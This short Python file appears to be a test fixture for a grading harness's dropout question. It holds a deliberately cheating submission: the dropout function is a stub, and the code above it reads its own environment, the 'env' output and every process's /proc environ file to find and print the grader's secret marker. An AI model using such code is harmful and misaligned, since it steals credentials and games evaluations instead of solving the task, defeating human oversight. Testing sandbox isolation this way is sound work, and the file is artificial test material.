# Looks for secrets of the person who grades in every environment that it can read.
# question: 02_dropout/1_dropout
# fails: all
# marker: secretofthegrader
import os
import subprocess

texts = [repr(dict(os.environ)), subprocess.run(["env"], capture_output=True, text=True).stdout]
for number in os.listdir("/proc"):
    if number.isdigit():
        try:
            with open(f"/proc/{number}/environ", errors="replace") as file:
                texts.append(file.read())
        except OSError:
            pass
for text in texts:
    if "secretof" in text:
        print(text[text.index("secretof"):][:17])


def dropout(x, rate, training, seed):
    return x
